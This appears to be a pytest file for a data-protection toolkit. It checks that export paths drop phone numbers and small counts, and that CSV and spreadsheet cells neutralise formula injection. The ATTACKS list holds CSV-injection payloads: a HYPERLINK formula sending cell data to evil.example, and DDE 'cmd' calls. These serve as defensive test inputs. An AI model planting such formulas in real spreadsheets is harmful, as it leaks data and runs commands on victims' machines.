"""Issue 7, "Done means": every export path, fed a table with a count of 3 and a phone-number column,
lets nothing identifying out: no phone number, and no count under the threshold.

The paths: the gate itself, ``safe_to_csv``, ``ctie check``'s printed findings, the report's table writer
(``ctie report``), and the data-sharing app's download (the other apps build their tables with the
same gate; their own tests cover them).
"""

from __future__ import annotations

import base64
import re
import urllib.parse

import pandas as pd

PHONES = ["+254 712 345 678", "+254 733 111 222", "+254 720 999 000", "+254 701 555 444"]
DIGITS = [re.sub(r"\D", "", p)[-6:] for p in PHONES]  # any 6 trailing digits of a number would identify


def _table() -> pd.DataFrame:
    return pd.DataFrame({
        "admin1_pcode": ["XA01", "XA02", "XA03", "XA04"],
        "focal_point_phone": PHONES,
        "victims": [3, 40, 25, 31],
        "referred": [12, 14, 9, 30],
    })


def _assert_clean(text: str, where: str) -> None:
    flat = re.sub(r"\D", "", text)
    for d in DIGITS:
        assert d not in flat, f"{where}: a phone number came out"
    assert not re.search(r"(^|[,\s>|])3([,\s<|]|$)", text, re.M), f"{where}: the count of 3 came out:\n{text}"


def test_gate():
    from ctie_helpers.safeguards import gate

    result = gate(_table(), kind="table")
    assert "focal_point_phone" in result.blocked_columns
    _assert_clean(result.table.to_csv(index=False), "gate")


def test_safe_to_csv(tmp_path):
    from ctie_helpers.safeguards import safe_to_csv

    out = tmp_path / "out.csv"
    safe_to_csv(_table(), out, kind="table")
    _assert_clean(out.read_text(encoding="utf-8"), "safe_to_csv")
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


def test_ctie_check_prints_nothing_identifying(tmp_path, capsys):
    from ctie_helpers import cli

    src = tmp_path / "export.csv"
    _table().to_csv(src, index=False)
    assert cli.main(["check", str(src)]) == 1
    out = capsys.readouterr()
    flat = re.sub(r"\D", "", out.out + out.err)
    for d in DIGITS:
        assert d not in flat, "ctie check printed a phone number"


def test_report_table_writer(tmp_path):
    from ctie_helpers.report.publish import gated, write_csv

    published = gated(_table(), "by_province", ["victims", "referred"])
    path = write_csv(published, tmp_path)
    _assert_clean(path.read_text(encoding="utf-8"), "report CSV")


def test_safety_app_download():
    from ctie_helpers.apps import build_safety
    from tests.test_apps import file_value

    app = build_safety()
    app.upload.value = file_value("export.csv", _table().to_csv(index=False).encode())
    shown = app.pii_table.value + app.preview.value
    flat = re.sub(r"\D", "", shown)
    assert not any(d in flat for d in DIGITS), "the app showed a phone number"
    m = re.search(r'href="data:[^;]+;base64,([^"]+)"', app.download.value) or \
        re.search(r'href="data:[^,]+,([^"]+)"', app.download.value)
    assert m, f"no download offered: {app.download.value[:200]}"
    payload = m.group(1)
    try:
        text = base64.b64decode(payload).decode("utf-8")
    except ValueError:
        text = urllib.parse.unquote(payload)
    _assert_clean(text, "safety app download")


# --- formulas (issue 15): no text cell an export writes can run in a spreadsheet ---------------------------
# Expected cells written by hand from the OWASP CSV-injection rule: text starting with = + - @ tab or CR gets
# a single quote in front; numbers (and text that is only a number) are written as they are.

ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3", "\t=1+1"]
QUOTED = ["'" + a for a in ATTACKS]


def _formula_table() -> pd.DataFrame:
    """Five areas (counts all above any threshold, so the gate keeps every row) with a free-text note."""
    return pd.DataFrame({
        "admin1_pcode": ["XA01", "XA02", "XA03", "XA04", "XA05"],
        "note": ATTACKS,
        "victims": [40, 25, 31, 18, 22],
        "change": [-5, 7, -12, 9, 0],
    })


def _csv_cells(text: str, skip: int = 0) -> list[list[str]]:
    import csv
    import io

    return list(csv.reader(io.StringIO(text)))[skip:]


def _assert_neutralised(rows: list[list[str]], header: list[str], where: str, quoted=QUOTED) -> None:
    col = {c: header.index(c) for c in ("note", "change")}
    assert [r[col["note"]] for r in rows] == quoted, f"{where}: a formula came out unquoted"
    assert [r[col["change"]] for r in rows] == ["-5", "7", "-12", "9", "0"], f"{where}: a number was altered"


def test_safe_to_csv_neutralises_formulas(tmp_path):
    from ctie_helpers.safeguards import safe_to_csv

    out = tmp_path / "out.csv"
    safe_to_csv(_formula_table(), out, kind="table")
    header, *rows = _csv_cells(out.read_text(encoding="utf-8"))
    _assert_neutralised(rows, header, "safe_to_csv")


def test_report_table_writer_neutralises_formulas(tmp_path):
    from ctie_helpers.report.publish import gated, write_csv

    published = gated(_formula_table(), "by_province", ["victims"])
    header, _hxl, *rows = _csv_cells(write_csv(published, tmp_path).read_text(encoding="utf-8"))
    _assert_neutralised(rows, header, "report CSV")


def test_safety_app_download_neutralises_formulas():
    from ctie_helpers.apps import build_safety
    from tests.test_apps import file_value

    app = build_safety()
    app.kind.value = "table"
    app.upload.value = file_value("export.csv", _formula_table().to_csv(index=False).encode())
    m = re.search(r'href="data:[^;]+;base64,([^"]+)"', app.download.value)
    assert m, f"no download offered: {app.download.value[:300]}"
    header, *rows = _csv_cells(base64.b64decode(m.group(1)).decode("utf-8"))
    # The loader trims the cell's surrounding blanks ("\t=1+1" -> "=1+1"); what is left is quoted all the same.
    _assert_neutralised(rows, header, "safety app download", ["'" + a.strip() for a in ATTACKS])


def test_gradebook_and_manual_sheet_neutralise_trainee_text_and_read_it_back(tmp_path):
    from ctie_helpers.facilitator.grade_sheets import ManualEntry, read_manual, write_manual

    sheet = tmp_path / "s1_manual.csv"
    entries = [ManualEntry(f"t{i:02d}", "s1_free_text", a, "rubric", "-1" if i == 0 else "", "")
               for i, a in enumerate(ATTACKS)]
    write_manual(sheet, entries)
    header, *rows = _csv_cells(sheet.read_text(encoding="utf-8"))
    assert [r[header.index("answer")] for r in rows] == QUOTED
    assert rows[0][header.index("score")] == "-1"  # a score is a number: never quoted
    back = read_manual(sheet)
    assert [back[(e.trainee, e.item)].answer for e in entries] == ATTACKS  # the facilitator's app shows the answer


def test_xlsform_never_stores_text_as_a_formula(tmp_path):
    import openpyxl

    from ctie_helpers.methods.xlsform import build_xlsform

    path = tmp_path / "form.xlsx"
    build_xlsform([{"name": "q1", "label": ATTACKS[0], "type": "text"}], path=path)
    cells = [c for ws in openpyxl.load_workbook(path) for row in ws.iter_rows() for c in row]
    label = [c for c in cells if c.value == ATTACKS[0]]
    assert label and all(c.data_type == "s" for c in label)  # exact text, typed as text: no formula
    assert not [c for c in cells if c.data_type == "f"]


def test_neutralise_cell_rule():
    from ctie_helpers.safeguards.formulas import neutralise_cell, restore_cell

    for text in ATTACKS + ["\rx", "-x", "+x"]:
        assert neutralise_cell(text) == "'" + text and restore_cell("'" + text) == text
    for kept in [-5, -5.0, 3, "-5", "+3.5", "1e-3", "plain", "a=b", "", None, "'=already quoted"]:
        assert neutralise_cell(kept) == kept or (kept != kept)
